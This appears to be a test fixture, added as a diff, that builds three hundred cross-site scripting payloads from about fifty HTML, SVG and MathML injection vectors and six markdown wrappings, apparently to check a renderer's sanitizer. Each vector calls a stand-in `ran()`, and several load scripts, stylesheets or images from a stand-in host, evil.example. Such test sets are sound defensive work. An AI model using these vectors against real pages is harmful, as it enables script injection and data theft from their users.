@@ -1,0 +1,68 @@
+// What tries to run in a page that shows it: markup, addresses and breaks out of where a text may stand.
+
+/** Each calls `ran()`, if anything of it runs. */
+const vectors = [
+  '<script>ran()</script>',
+  '<ScRiPt>ran()</sCrIpT>',
+  '<script src="data:text/javascript,ran()"></script>',
+  '<script src=//evil.example/x.js></script>',
+  '<scr<script>ipt>ran()</scr</script>ipt>',
+  '<img src=x onerror=ran()>',
+  '<img/src=x/onerror=ran()>',
+  '<img src="x" onerror="ran()" ',
+  '<IMG """><SCRIPT>ran()</SCRIPT>">',
+  '<img src=`x`onerror=ran()>',
+  '<svg onload=ran()>',
+  '<svg/onload=ran()>',
+  '<svg><script>ran()</script></svg>',
+  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:ran()"><text x=20 y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
+  '<math><mi//xlink:href="data:x,<script>ran()</script>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
+  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
+  '<template><script>ran()</script></template>',
+  '<iframe src="javascript:ran()"></iframe>',
+  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+  '<object data="javascript:ran()"></object>',
+  '<embed src="javascript:ran()">',
+  '<body onload=ran()>',
+  '<video><source onerror=ran()></video>',
+  '<audio src=x onerror=ran()>',
+  '<details open ontoggle=ran()><summary>x</summary></details>',
+  '<input autofocus onfocus=ran()>',
+  '<select autofocus onfocus=ran()></select>',
+  '<textarea autofocus onfocus=ran()></textarea>',
+  '<marquee onstart=ran()>x</marquee>',
+  '<a href="javascript:ran()">x</a>',
+  '<a href="java&#10;script:ran()">x</a>',
+  '<a href="&#x6A;avascript:ran()">x</a>',
+  '<a href="\u0001javascript:ran()">x</a>',
+  '<form action="javascript:ran()"><button>x</button></form>',
+  '<button formaction="javascript:ran()">x</button>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<div style="background:url(//evil.example/x.png)">x</div>',
+  '<table background="//evil.example/x.png"><td>x</td></table>',
+  '"><img src=x onerror=ran()>',
+  "'-ran()-'",
+  '</textarea><img src=x onerror=ran()>',
+  '</script><script>ran()</script>',
+]
+
+/** Ways in which markdown takes them in. */
+const wrappings: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `[a](${vector})`,
+  (vector) => `![${vector}](https://evil.example/p.png?q=${vector})`,
+  (vector) => `<https://evil.example/${vector}>`,
+  (vector) => `| ${vector} | b |\n|---|---|\n| ${vector} | [x](javascript:ran()) |`,
+  (vector) => `\`\`\`${vector}\n${vector}\n\`\`\`\n[r]: javascript:ran() "${vector}"\n[r]`,
+]
+
+/** Three hundred texts. */
+export const payloads: readonly string[] = wrappings.flatMap((wrap) => vectors.map(wrap))
